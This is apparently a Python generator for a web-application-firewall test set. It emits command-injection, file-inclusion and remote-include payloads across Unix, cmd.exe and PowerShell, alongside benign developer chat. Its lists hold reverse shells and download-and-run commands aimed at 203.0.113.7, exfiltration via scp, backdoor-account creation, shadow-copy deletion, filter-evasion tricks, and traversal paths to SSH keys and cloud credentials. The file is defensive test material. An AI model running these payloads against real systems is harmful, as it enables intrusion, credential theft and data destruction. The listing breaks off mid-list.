"""Blind set "twentyeighth": VOCABULARY BREADTH. A test suite for an injection family, like a rule author
writing one positive example per word a rule must know, walks the family's vocabulary one word at a time:
every Unix command (file readers, network tools, interpreters, system tools), every cmd.exe built-in and
Windows tool, every PowerShell cmdlet and alias, every sensitive file (Unix system files, home dotfiles,
web-server and application configuration, Windows files), every remote-include scheme. Each word appears in a
short canonical payload, then once more wrapped in the usual syntax around it (another separator, quotes,
carets or backticks, IFS / brace / wildcard tricks, another traversal spelling, another tail). Breadth over
depth: many words, one to three shapes each.

Families (category / sub):
- rce / unixread (cat, tac, nl, head, tail, od, xxd, strings, ...), unixnet (curl, wget, nc, socat, dig,
  ...), interp (python, perl, ruby, php, lua, node, awk, sed, bash, busybox, ...), unixsys (id, uname, ps,
  chmod, crontab, sudo, find -exec, tar, git, docker, kubectl, ...), unixtrick (IFS, braces, wildcards,
  quoting, encodings around a few words), win (cmd.exe built-ins and LOLBins), ps (PowerShell);
- lfi / unix (/etc, /proc, /var/log, /root), dotfile (home and project dotfiles), appcfg (web-server and
  application configuration), win (Windows system files), each reached with a rotating traversal spelling
  (../, ..\\, encoded, doubled, NUL or ?/# tails, absolute paths, file:// URLs);
- rfi / rfi: remote includes by http(s), ftp, smb and UNC paths with the usual tails.
Each payload goes into three places (query argument, form field, JSON field, cookie, a header), and one
payload in three swaps a place for /me/location's `place`, an OAuth token request's `scope`, the User-Agent,
the Referer or a query parameter's NAME. The benign half carries the same words innocently: developers pasting
commands into Slack (and saving them as a bio), documentation links, prose ("I'll cat the logs"), file
names, real places called Perl or Curl Curl, OAuth clients named after tools.

Authorship and independence: every payload and text here was written from general knowledge of these
families, without reading the repository's WAF rules, any ruleset or its regression tests, other generators'
payload lists, or any public payload list. The set is measured once on the unchanged code and never adjusted
to what the WAF blocks. Deterministic: no clock, no randomness; rotations are by index.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, prose_request, three_places
from .records import numbered, print_records

NAME = "twentyeighth"

# ---------------------------------------------------------------------------------------------------------
# shapes around a Unix command line
# ---------------------------------------------------------------------------------------------------------
LEADS = ["127.0.0.1", "report.pdf", "x", "", "8.8.8.8", "alice"]


def unix_sep(cmd: str, k: int) -> str:
    """`cmd` after the k-th separator of a list, behind a plausible field value."""
    lead = LEADS[k % len(LEADS)]
    kind = k % 10
    if kind == 0:
        return f"{lead};{cmd}"
    if kind == 1:
        return f"{lead}|{cmd}"
    if kind == 2:
        return f"{lead} && {cmd}"
    if kind == 3:
        return f"{lead} || {cmd}"
    if kind == 4:
        return f"{lead} & {cmd}"
    if kind == 5:
        return f"{lead}\n{cmd}"
    if kind == 6:
        return f"{lead}`{cmd}`"
    if kind == 7:
        return f"{lead}$({cmd})"
    if kind == 8:
        return f"; {cmd} #"
    return f"{lead}|{cmd}|"


def _first_word_split(cmd: str, style: int) -> str:
    word, _, rest = cmd.partition(" ")
    if len(word) < 2 or "/" in word:
        return cmd
    if style == 0:
        w = f"{word[0]}'{word[1:-1]}'{word[-1]}" if len(word) > 2 else f"{word[0]}''{word[1:]}"
    elif style == 1:
        w = f"{word[0]}\"{word[1:]}\""
    elif style == 2:
        w = f"{word[0]}\\{word[1:]}"
    else:
        w = f"{word[0]}$@{word[1:]}"
    return w + (" " + rest if rest else "")


def unix_trick(cmd: str, k: int) -> str:
    """One of the usual evasions applied to `cmd`, the k-th of the list."""
    kind = k % 8
    if kind == 0:
        return cmd.replace(" ", "${IFS}")
    if kind == 1 and not any(c in cmd for c in "'\"|;{}<>$"):
        return "{" + cmd.replace(" ", ",") + "}"
    if kind == 2:
        wild = cmd.replace("/etc/passwd", "/e??/p?ss??").replace("/etc/shadow", "/et*/sh*ow")
        return wild if wild != cmd else "/???/" + cmd if "/" not in cmd.split(" ")[0] else wild
    if kind == 3:
        return _first_word_split(cmd, 0)
    if kind == 4:
        return _first_word_split(cmd, 1)
    if kind == 5:
        return _first_word_split(cmd, 2)
    if kind == 6:
        return cmd.replace(" ", "\t")
    word, _, rest = cmd.partition(" ")
    if "/" not in word and word.isalnum():
        return f"/usr/bin/{word}" + (" " + rest if rest else "")
    return _first_word_split(cmd, 3)


def unix_two(words: list[str], i0: int) -> list[str]:
    """Each command line canonical (a separator before it), then with a trick and another separator."""
    out = []
    for i, cmd in enumerate(words):
        out.append(unix_sep(cmd, i0 + i))
        out.append(unix_sep(unix_trick(cmd, i0 + i), i0 + i + 3))
    return out


TARGETS = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/proc/self/environ", "/root/.ssh/id_rsa",
           "/var/log/auth.log"]
READERS = ["cat", "tac", "nl", "head -n 50", "tail -n 20", "more", "less", "od -c", "xxd", "hexdump -C",
           "strings", "sort", "uniq", "rev", "base64", "cut -d: -f1", "paste -s", "fold -w 80", "grep -r root",
           "diff /dev/null", "dd if=", "view"]
READ_LINES = [f"{r}{TARGETS[i % len(TARGETS)]}" if r.endswith("=") else f"{r} {TARGETS[i % len(TARGETS)]}"
              for i, r in enumerate(READERS)]

NET_LINES = [
    "curl http://203.0.113.7/x.sh | sh",
    "wget -q -O /tmp/.x http://203.0.113.7/x && chmod +x /tmp/.x",
    "nc -e /bin/sh 203.0.113.7 4444",
    "ncat 203.0.113.7 4444 -e /bin/bash",
    "socat tcp-connect:203.0.113.7:4444 exec:sh,pty",
    "telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445",
    "ssh -R 9000:127.0.0.1:22 tunnel@203.0.113.7",
    "ftp -n 203.0.113.7",
    "tftp -g -r shell.elf 203.0.113.7",
    "nslookup $(whoami).oast.example",
    "dig @203.0.113.7 exfil.oast.example",
    "ping -c 10 203.0.113.7",
    "host `hostname`.oast.example",
    "scp /etc/passwd loot@203.0.113.7:/tmp/",
    "rsync -a /var/www/ loot@203.0.113.7:/srv/",
    "openssl s_client -quiet -connect 203.0.113.7:443",
]

INTERP_LINES = [
    "python -c 'import os;os.system(\"id\")'",
    "python3 -c \"import socket,subprocess;subprocess.call(['/bin/sh','-i'])\"",
    "perl -e 'system(\"id\")'",
    "ruby -e 'exec \"/bin/sh\"'",
    "php -r 'system(\"id\");'",
    "lua -e 'os.execute(\"id\")'",
    "node -e 'require(\"child_process\").execSync(\"id\")'",
    "awk 'BEGIN {system(\"id\")}'",
    "sed -n '1,5p' /etc/passwd",
    "bash -c 'id'",
    "sh -c whoami",
    "zsh -c 'uname -a'",
    "busybox nc 203.0.113.7 4444 -e sh",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "ksh -c id",
    "dash -c 'cat /etc/passwd'",
    "tclsh <<< 'exec id'",
    "irb -e 'system(\"id\")'",
]

SYS_LINES = [
    "id", "whoami", "uname -a", "ifconfig -a", "ip addr show", "ps aux", "kill -9 1",
    "chmod 777 /var/www/html", "chown root:root /tmp/x", "crontab -l",
    "echo '* * * * * root sh /tmp/x' >> /etc/crontab", "useradd -o -u 0 backdoor", "passwd root",
    "sudo -l", "su - root", "env", "printenv", "mount", "find / -perm -4000 -exec ls -l {} \\;",
    "ls /home | xargs -I{} cat /home/{}/.ssh/id_rsa",
    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=id",
    "zip /tmp/x.zip /etc/hosts -T -TT 'sh #'", "git -c core.pager='sh -c id' log",
    "docker run -v /:/mnt --rm alpine chroot /mnt sh", "kubectl exec -it web-0 -- /bin/sh",
    "netstat -antp", "ss -tlnp", "hostname", "lsof -i",
    "systemctl stop nginx", "iptables -F", "ls -la /", "rm -rf /var/www",
    "mkfifo /tmp/f", "nohup sh /tmp/x &", "export PATH=/tmp:$PATH",
]

TRICK_PAYLOADS = [
    "cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    "|/bin/c?t /e??/p*d",
    ";c\\a\\t /etc/pas\\swd",
    "$(printf '\\x69\\x64')",
    "`echo aWQ= | base64 -d | sh`",
    ";w'h'o'a'm'i",
    "a=ca;b=t;$a$b /etc/passwd",
    ";$(rev<<<'dwssap/cte/ tac')",
    "|ca$()t /etc/passwd",
    "%0acat%20/etc/passwd",
    ";echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|bash",
    "x;IFS=,;`cat<<<uname,-a`",
    ";/???/??t /???/??ss??",
    "$(tr 'a-z' 'n-za-m' <<< 'png /rgp/cnffjq')",
    "&&ca''t</etc/shadow",
]

# ---------------------------------------------------------------------------------------------------------
# Windows: cmd.exe and PowerShell
# ---------------------------------------------------------------------------------------------------------
WIN_LINES = [
    "dir C:\\", "type C:\\Windows\\win.ini", "net user", "net user hacker P@ss1 /add",
    "net localgroup administrators hacker /add", "whoami /all", "ipconfig /all", "systeminfo", "tasklist /v",
    "taskkill /F /IM MsMpEng.exe", "certutil -urlcache -split -f http://203.0.113.7/x.exe %TEMP%\\x.exe",
    "bitsadmin /transfer j /download /priority high http://203.0.113.7/x.exe C:\\Users\\Public\\x.exe",
    "mshta http://203.0.113.7/x.hta", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "regsvr32 /s /n /u /i:http://203.0.113.7/x.sct scrobj.dll", "wmic process call create \"calc.exe\"",
    "reg query HKLM\\SAM\\SAM", "reg save HKLM\\SYSTEM C:\\Temp\\sys.hiv",
    "schtasks /create /sc minute /tn upd /tr C:\\Temp\\x.exe", "sc create svc binPath= C:\\Temp\\x.exe",
    "findstr /si password *.config", "cmd /c ver", "cmd.exe /k set", "netstat -ano", "nltest /dclist:corp",
    "vssadmin delete shadows /all /quiet", "icacls C:\\Windows\\Temp /grant Everyone:F",
    "cscript //nologo C:\\Temp\\x.vbs", "wscript.exe C:\\Temp\\x.js", "forfiles /p C:\\Windows /m notepad.exe /c calc",
    "msiexec /q /i http://203.0.113.7/x.msi", "copy \\\\203.0.113.7\\s\\x.exe C:\\Temp",
]
WIN_SEPS = ["&", "|", "&&", "||", "\r\n", "%0a"]


def win_trick(cmd: str, k: int) -> str:
    word, _, rest = cmd.partition(" ")
    tail = " " + rest if rest else ""
    kind = k % 6
    if kind == 0:
        return "^".join(word) + tail
    if kind == 1:
        return f"{word[:2]}\"\"{word[2:]}{tail}" if len(word) > 2 else f"\"{word}\"{tail}"
    if kind == 2:
        return f"cmd /c {cmd}"
    if kind == 3:
        return f"%COMSPEC% /c \"{cmd}\""
    if kind == 4:
        return "".join(c.upper() if j % 2 else c for j, c in enumerate(word)) + tail
    return f"cmd.exe /V:ON /C \"set x={word}&& !x!{tail}\""


def win_sep(cmd: str, k: int) -> str:
    sep = WIN_SEPS[k % len(WIN_SEPS)]
    lead = ["127.0.0.1", "report.docx", "x", "C:\\Temp"][k % 4]
    return f"{lead}{sep}{cmd}" if sep in ("%0a", "\r\n") else f"{lead} {sep} {cmd}"


def win_two() -> list[str]:
    out = []
    for i, cmd in enumerate(WIN_LINES):
        out.append(win_sep(cmd, i))
        out.append(win_sep(win_trick(cmd, i), i + 2))
    return out


def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


PS_LINES = [
    f"powershell -enc {_enc('whoami')}",
    f"powershell.exe -NoP -W Hidden -EncodedCommand {_enc('iex (iwr http://203.0.113.7/a.ps1)')}",
    "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
    "Invoke-Expression (Get-Content C:\\Temp\\a.ps1 -Raw)",
    "Invoke-WebRequest -Uri http://203.0.113.7/x.exe -OutFile $env:TEMP\\x.exe",
    "iwr http://203.0.113.7/a.ps1 | iex",
    "Invoke-RestMethod http://203.0.113.7/c | Invoke-Expression",
    "irm http://203.0.113.7/c|iex",
    "Start-Process calc.exe",
    "Get-Process | Stop-Process -Force",
    "Get-ChildItem C:\\Users -Recurse -Include *.kdbx",
    "gci env:",
    "Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts",
    "gc $env:USERPROFILE\\.ssh\\id_rsa",
    "Set-ExecutionPolicy Bypass -Scope Process -Force",
    "Add-Type -TypeDefinition $src",
    "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))",
    "Invoke-Command -ComputerName dc01 -ScriptBlock { whoami }",
    "Invoke-Mimikatz -DumpCreds",
    "Get-WmiObject Win32_Process",
    "Get-CimInstance Win32_UserAccount",
    "$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s=$c.GetStream()",
    "Remove-Item -Recurse -Force C:\\inetpub\\wwwroot",
    "Get-LocalUser | Out-File C:\\Temp\\u.txt",
    "pwsh -c \"Get-Content /etc/passwd\"",
    "[Net.ServicePointManager]::SecurityProtocol='Tls12';(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/x','x.exe')",
]


def ps_trick(cmd: str, k: int) -> str:
    kind = k % 5
    if kind == 0:
        return "".join(c.upper() if j % 3 == 0 else c.lower() for j, c in enumerate(cmd))
    if kind == 1:
        return cmd.replace("Invoke", "In`vo`ke").replace("iex", "i`ex").replace("IEX", "I`E`X") \
            .replace("Get-", "G`et-").replace("powershell", "power`shell")
    if kind == 2:
        return f"powershell -c \"{cmd}\""
    if kind == 3:
        return f"; {cmd}"
    return f"cmd /c powershell -ep bypass -c \"{cmd}\""


def ps_two() -> list[str]:
    out = []
    for i, cmd in enumerate(PS_LINES):
        out.append(f"| {cmd}" if i % 2 else f"& {cmd}")
        out.append(ps_trick(cmd, i))
    return out


# ---------------------------------------------------------------------------------------------------------
# file inclusion
# ---------------------------------------------------------------------------------------------------------
def unix_path(path: str, k: int) -> str:
    """`path` (absolute, starting with /) reached with the k-th traversal spelling."""
    rel = path.lstrip("/")
    kind = k % 14
    if kind == 0:
        return "../../../../" + rel
    if kind == 1:
        return "..%2f..%2f..%2f..%2f" + rel.replace("/", "%2f")
    if kind == 2:
        return "%2e%2e/%2e%2e/%2e%2e/%2e%2e/" + rel
    if kind == 3:
        return "....//....//....//....//" + rel
    if kind == 4:
        return "../../../../../" + rel + "%00"
    if kind == 5:
        return "../../../../" + rel + "\x00.png"
    if kind == 6:
        return path
    if kind == 7:
        return "file://" + path
    if kind == 8:
        return "..%252f..%252f..%252f" + rel.replace("/", "%252f")
    if kind == 9:
        return "/var/www/html/../../../" + rel
    if kind == 10:
        return "../../../" + rel + "?x=1"
    if kind == 11:
        return "..\\..\\..\\..\\" + rel.replace("/", "\\")
    if kind == 12:
        return "..%c0%af..%c0%af..%c0%af" + rel
    return "../../../../" + rel + "#"


UNIX_FILES = [
    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/hosts", "/etc/hostname", "/etc/issue",
    "/etc/os-release", "/etc/crontab", "/etc/sudoers", "/etc/fstab", "/etc/resolv.conf", "/etc/motd",
    "/etc/ssh/sshd_config", "/etc/mysql/my.cnf", "/etc/network/interfaces", "/proc/self/environ",
    "/proc/self/cmdline", "/proc/version", "/proc/self/fd/0", "/proc/1/maps", "/proc/net/tcp",
    "/proc/self/status", "/proc/mounts", "/var/log/auth.log", "/var/log/apache2/access.log",
    "/var/log/nginx/error.log", "/var/log/syslog", "/var/mail/root",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/root/.bash_history",
]
DOTFILES = [
    "/home/deploy/.bash_history", "/home/ubuntu/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/home/git/.ssh/authorized_keys",
    "/root/.aws/credentials", "/home/app/.aws/config", "/root/.docker/config.json", "/home/ops/.kube/config",
    "/var/www/html/.git/config", "/var/www/app/.env", "/home/node/.npmrc", "/var/lib/postgresql/.pgpass",
    "/root/.my.cnf", "/home/ci/.netrc", "/home/dev/.gitconfig", "/root/.bashrc", "/home/user/.profile",
    "/home/user/.zsh_history", "/root/.mysql_history", "/var/www/.htpasswd", "/var/www/html/.htaccess",
    "/root/.gnupg/secring.gpg", "/home/dev/.config/gcloud/credentials.db", "/var/www/html/.svn/entries",
]
APP_FILES = [
    "/etc/nginx/nginx.conf", "/etc/nginx/sites-enabled/default", "/etc/apache2/apache2.conf",
    "/etc/httpd/conf/httpd.conf", "/etc/php/8.2/fpm/php.ini", "/usr/local/etc/php/php.ini",
    "/var/www/html/wp-config.php", "/var/www/html/configuration.php", "/var/www/mediawiki/LocalSettings.php",
    "/var/www/magento/app/etc/env.php", "/opt/tomcat/conf/tomcat-users.xml", "/opt/tomcat/conf/server.xml",
    "/usr/local/tomcat/webapps/ROOT/WEB-INF/web.xml", "/app/src/main/resources/application.properties",
    "/app/config/application.yml", "/srv/django/mysite/settings.py", "/srv/rails/config/database.yml",
    "/srv/rails/config/secrets.yml", "/app/.env.production", "/opt/app/docker-compose.yml",
    "/var/www/html/config.php", "/app/appsettings.json",
]
WIN_FILES = [
    "windows\\win.ini", "windows\\system.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts",
    "windows\\repair\\sam", "windows\\system32\\config\\SAM", "windows\\system32\\config\\SYSTEM",
    "inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240101.log", "windows\\panther\\unattend.xml",
    "windows\\system32\\sysprep\\sysprep.xml", "inetpub\\wwwroot\\web.config", "windows\\debug\\NetSetup.log",
    "xampp\\apache\\conf\\httpd.conf", "ProgramData\\MySQL\\MySQL Server 8.0\\my.ini",
    "Users\\Administrator\\NTUSER.DAT", "windows\\system32\\inetsrv\\config\\applicationHost.config",
    "windows\\repair\\system", "windows\\system32\\license.rtf", "Users\\Public\\Desktop\\desktop.ini",
    "windows\\win.ini",
]


def win_path(rel: str, k: int) -> str:
    kind = k % 9
    if kind == 0:
        return "..\\..\\..\\..\\" + rel
    if kind == 1:
        return "C:\\" + rel
    if kind == 2:
        return "../../../../" + rel.replace("\\", "/")
    if kind == 3:
        return "c:/" + rel.replace("\\", "/")
    if kind == 4:
        return "..%5c..%5c..%5c" + rel.replace("\\", "%5c")
    if kind == 5:
        return "file:///C:/" + rel.replace("\\", "/")
    if kind == 6:
        return "..\\..\\..\\" + rel + "%00.jpg"
    if kind == 7:
        return "\\\\localhost\\c$\\" + rel
    return "..//..//..//..//" + rel.replace("\\", "//")


LFI_UNIX = [unix_path(p, i) for i, p in enumerate(UNIX_FILES)]
LFI_DOT = [unix_path(p, i + 5) for i, p in enumerate(DOTFILES)]
LFI_APP = [unix_path(p, i + 9) for i, p in enumerate(APP_FILES)]
LFI_WIN = [win_path(p, i) for i, p in enumerate(WIN_FILES)]

RFI = [
    "http://203.0.113.7/shell.txt?",
    "http://evil.example/c99.txt?x=",
    "https://203.0.113.7/r57.php",
    "http://evil.example/inc.txt%00",
    "http://evil.example/inc.txt\x00",
    "http://evil.example/payload.txt#",
    "https://pastebin.example/raw/a1b2c3?",
    "ftp://anonymous@203.0.113.7/pub/x.php",
    "ftp://203.0.113.7/x.txt?",
    "smb://203.0.113.7/share/x.php",
    "\\\\203.0.113.7\\share\\shell.php",
    "\\\\evil.example@SSL\\DavWWWRoot\\x.php",
    "//evil.example/x.txt",
    "http://evil.example/x.txt?.php",
    "HTTP://EVIL.EXAMPLE/X.TXT?",
    "hTtPs://evil.example/backdoor.txt",
    "http://2130706433.evil.example/x.txt?",
    "http://203.0.113.7:8000/x.inc",
    "http://evil.example/x.jpg?cmd=id",
    "https://raw.githubusercontent.example/u/r/main/s.txt?",
    "http://evil.example/a.php?/etc/passwd",
    "http://user:pw@evil.example/x.txt",
    "http:%2f%2fevil.example%2fx.txt",
    "http://evil.example/x.txt%3f",
    "https://evil.example/wso.php.txt?",
    "ftp://evil.example:2121/inc/config.txt",
    "http://[2001:db8::7]/x.txt?",
    "http://0xcb.0x00.0x71.0x07/x.txt",
    "file://203.0.113.7/share/x.php",
    "http://evil.example/template.tpl?",
    "https://evil.example/lang/en.txt%00",
    "http://evil.example/?include=shell",
    "http://evil.example/x.txt??",
    "smb://evil.example/public/inc.php%00",
    "http://evil.example/modules/x.txt&",
    "//203.0.113.7/x.php?",
]

# ---------------------------------------------------------------------------------------------------------
# assembly
# ---------------------------------------------------------------------------------------------------------
SETS: list[tuple[str, str, list[str]]] = [
    ("rce", "unixread", unix_two(READ_LINES, 0)),
    ("rce", "unixnet", unix_two(NET_LINES, 2)),
    ("rce", "interp", unix_two(INTERP_LINES, 4)),
    ("rce", "unixsys", unix_two(SYS_LINES, 6)),
    ("rce", "unixtrick", TRICK_PAYLOADS),
    ("rce", "win", win_two()),
    ("rce", "ps", ps_two()),
    ("lfi", "unix", LFI_UNIX),
    ("lfi", "dotfile", LFI_DOT),
    ("lfi", "appcfg", LFI_APP),
    ("lfi", "win", LFI_WIN),
    ("rfi", "rfi", RFI),
]
NAMES = {"rce": ["q", "cmd", "host", "name", "search", "ip", "exec", "target"],
         "lfi": ["file", "path", "page", "template", "doc", "q", "download", "name"],
         "rfi": ["page", "url", "include", "file", "template", "src", "lang", "module"]}
EXTRA = ["me", "oauth", "ua", "referer", "pname"]


def _header_safe(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ").replace("\x00", "%00")


def place(where: str, name: str, value: str) -> dict[str, Any]:
    """The MODEL's places, and five more: /me/location's place, an OAuth token request's scope, the
    User-Agent, the Referer, a query parameter's name."""
    if where == "me":
        return _form("/me/location", [("csrf_token", "t0k3n"), ("place", value)])
    if where == "oauth":
        return _form("/oauth/token", [("grant_type", "client_credentials"), ("client_id", "reports-cli"),
                                      ("client_secret", "s3cr3t-value"), ("scope", value)])
    if where == "ua":
        return {**_get("/api/users?page=1"), "headers": {"User-Agent": _header_safe(value),
                                                           "Accept": "application/json"}}
    if where == "referer":
        return {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                           "Referer": _header_safe(value)}}
    if where == "pname":
        return _get(_query("/api/users", [(value, "1"), ("page", "1")]))
    if where == "header":   # (a CR or NUL in a header is refused by nginx before any WAF)
        return _place(where, name, _header_safe(value))
    return _place(where, name, value)


def placements(i: int, names: list[str]) -> list[tuple[str, str]]:
    """three_places, with one of the three swapped for an extra place on every third payload."""
    places = three_places(i, names)
    if i % 3 == 2:
        places[(i // 3) % 3] = (EXTRA[(i // 3) % len(EXTRA)], places[(i // 3) % 3][1])
    return places


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    seen: set[str] = set()
    for category, sub, payloads in SETS:
        for i, p in enumerate(payloads):
            if p in seen:
                continue
            seen.add(p)
            for where, name in placements(i, NAMES[category]):
                n += 1
                yield {**place(where, name, p), "id": f"{NAME}-{category}-{sub}-{n:04d}", "category": category,
                       "sub": sub, "placement": where, "payload": p}


# ---------------------------------------------------------------------------------------------------------
# benign
# ---------------------------------------------------------------------------------------------------------
SLACK_TEXTS = [
    # commands pasted by developers
    "can someone `tail -f /var/log/nginx/error.log` on web-2? I'm seeing 502s",
    "quick one: `cat package.json | jq .version` says 2.4.1, so the tag is wrong",
    "`head -n 20 orders.csv` shows the header row got duplicated",
    "try `curl -sS https://api.example.com/healthz` from your laptop, it answers for me",
    "wget the release tarball from the GitHub page, the mirror is stale",
    "`nc -zv db-1 5432` succeeds from the bastion so it's not the security group",
    "ping works but dig returns SERVFAIL for internal.example.com, DNS again",
    "nslookup shows the old IP, TTL is an hour so just wait",
    "python3 -m venv .venv && pip install -r requirements.txt, then run the tests",
    "perl one-liners in the old deploy script are unreadable, I'll port them to python",
    "ruby 3.3 broke the gem install on the CI image",
    "php artisan migrate ran fine on staging",
    "node 20 is the minimum now, bump your nvm default",
    "awk '{print $1}' access.log | sort | uniq -c | sort -rn | head gives you the top IPs",
    "sed -i 's/foo/bar/' config.yml is easier than opening vim",
    "bash strict mode please: set -euo pipefail at the top of every script",
    "busybox images are tiny but missing half the tools, use debian-slim",
    "`uname -a` on the build box says 6.1, so the kernel module will load",
    "`whoami` says jenkins in the pipeline, that's why the write fails",
    "ps aux | grep gunicorn shows 9 workers, config says 4, weird",
    "chmod 600 on the key file or ssh refuses it",
    "crontab -e on the worker box, the backup job is at 02:00",
    "run sudo apt-get update first, the package index is old",
    "printenv | grep AWS to check which profile is active",
    "find . -name '*.pyc' -delete fixes the stale import",
    "git log --oneline -5 on main please, I think the merge went wrong",
    "docker compose up -d then docker logs -f api",
    "kubectl get pods -n staging shows CrashLoopBackOff on worker",
    "kubectl describe pod worker-7c9 gives OOMKilled, bump the memory",
    "tar -czf backup.tgz data/ before the migration, just in case",
    "zip the screenshots and attach them to the ticket",
    "the xxd dump of the file shows a BOM at the start",
    "strings on the binary shows the version string 1.8.2",
    "base64 -d of that token shows it's just JSON, no secret in it",
    "od -c shows a stray carriage return at the end of each line",
    "lsof -i :8080 shows the old process still bound",
    "netstat says nothing listens on 9200, elastic is down",
    "ssh into bastion then jump to db-1, keys are in 1Password",
    "scp the report to the shared box, not to your laptop",
    "rsync is faster than cp for the media folder",
    "socat is handy for forwarding the debug port",
    "openssl s_client shows the cert chain is missing the intermediate",
    "telnet is not installed on the image, use nc",
    "tftp is only used by the old phones in the office",
    "less +F is like tail -f but you can scroll back",
    "the more I read the runbook the less I trust it",
    # Windows and PowerShell
    "on Windows use `dir /s` instead of find",
    "`type nul > file.txt` creates an empty file in cmd",
    "net user shows the service account is locked",
    "ipconfig /flushdns fixed the VPN name resolution",
    "systeminfo says the box has 16 GB, task manager agrees",
    "tasklist | findstr java shows two JVMs running",
    "certutil -hashfile setup.exe SHA256 to verify the download",
    "the reg export of the printer settings is in the shared drive",
    "schtasks shows the nightly job last ran at 01:00",
    "sc query wuauserv says stopped, that's why updates fail",
    "wmic is deprecated, use Get-CimInstance instead",
    "Get-ChildItem -Recurse | Measure-Object is how I count the files",
    "Get-Process chrome | Sort-Object WS shows the memory hog",
    "Invoke-WebRequest is slow in PS 5, use curl.exe",
    "Set-ExecutionPolicy RemoteSigned for your user only, not machine-wide",
    "New-Object PSCustomObject is how the report script builds rows",
    "Start-Process with -Verb RunAs asks for elevation",
    "powershell ISE is gone, use VS Code with the extension",
    "mshta and regsvr32 are on the EDR watch list now",
    "rundll32 is what the old printer driver installer calls",
    # files and paths
    "the nginx.conf in the repo is the source of truth, not the one on the box",
    "/etc/hosts on your mac still points api.local to the old VM",
    "logs are in /var/log/app/, rotated daily",
    "keep your .env out of git, there's a .env.example",
    "~/.aws/credentials has two profiles, use the dev one",
    "~/.kube/config gets merged when you add the new cluster",
    "docker login writes ~/.docker/config.json, don't commit it",
    "the .ssh/config trick with ProxyJump saves a lot of typing",
    "the .bash_history on shared boxes is a bad place for passwords",
    "wp-config.php on the marketing site needs the new DB host",
    "web.config rewrites on the old IIS box are why the URLs look like that",
    "application.properties sets the pool size to 20",
    "settings.py has DEBUG = True on staging, fix before the demo",
    "database.yml points at the replica for reports",
    "php.ini memory_limit is 128M, the import needs more",
    "win.ini and boot.ini are fun relics, nobody needs them",
    "the hosts file on Windows is under system32\\drivers\\etc",
    "the SAM file can't be copied while Windows runs, that's the point",
    "unattend.xml is in the imaging share, ask desktop support",
    "IIS logs are in inetpub\\logs, W3C format",
    "the /proc filesystem shows the open file count per process",
    "see /var/log/syslog around 03:12 for the OOM",
    "the include path for the templates is set in the app config",
    "the FTP server for the partners is going away in March",
    "the SMB share \\\\files\\marketing is read-only for contractors",
    "the remote include of the header snippet is done at build time now",
    # plain chat with the words
    "I'll cat the logs and send you the interesting bits",
    "the cat knocked my coffee over, give me five minutes",
    "head of sales wants the numbers by noon",
    "tail end of the quarter is always busy",
    "less is more with these dashboards",
    "sort the list by date, newest first",
    "uniq visitors are up 12% this week",
    "strings in the translation file need review",
    "ping me when you're free",
    "dig into the churn numbers when you get a chance",
    "host of the webinar is Maria",
    "curl up with a good book this weekend",
    "the python meetup is on Thursday",
    "perl is what the billing scripts from 2009 are written in",
    "ruby anniversary dinner for Ann and Joe on Saturday",
    "lua is what the game modders use",
    "kill the meeting if nobody has an agenda",
    "find me the contract from last year",
    "who am I supposing to ask about the parking badge?",
    "the system is down, IT is on it",
    "type your name on the sign-up sheet",
    "net revenue is up, gross margin flat",
    "the tasklist for the launch is in Notion",
    "mount the projector screen before the all-hands",
    "export the report as PDF please",
    "env var names are in the README",
    "passwd reset emails are delayed, the mail provider is slow",
    "the git workshop slides are pinned",
    "docker stickers arrived!",
    "fold the flyers in three before the event",
    "diff between the two contracts is only the payment terms",
    "paste the link in the channel",
    "history repeats itself with these outages",
    "w00t the release is out",
    "id badges are at reception",
    "select a date for the offsite",
    "the shell company question from legal is about the Cayman entity",
    "rm 3.14 is the meeting room, not 3.41",
    "sh, the baby is sleeping (working from home today)",
    "we need to chown this project, who owns it now?",
    "sudo make me a sandwich",
    "nohup? no hope, the build is red",
]
PUBLIC_URLS = [
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://www.gnu.org/software/coreutils/manual/html_node/tail-invocation.html",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/wget/manual/wget.html",
    "https://docs.python.org/3/library/subprocess.html",
    "https://perldoc.perl.org/perlrun",
    "https://www.gnu.org/software/gawk/manual/gawk.html",
    "https://kubernetes.io/docs/reference/kubectl/",
    "https://docs.docker.com/engine/reference/commandline/run/",
    "https://git-scm.com/docs/git-log",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/schtasks",
    "https://nginx.org/en/docs/beginners_guide.html",
    "https://httpd.apache.org/docs/2.4/configuring.html",
    "https://www.php.net/manual/en/ini.list.php",
    "https://wordpress.org/documentation/article/editing-wp-config-php/",
    "https://docs.djangoproject.com/en/5.0/topics/settings/",
    "https://guides.rubyonrails.org/configuring.html",
    "https://docs.aws.amazon.com/cli/latest/userguide/cli-configure-files.html",
    "https://www.kernel.org/doc/html/latest/filesystems/proc.html",
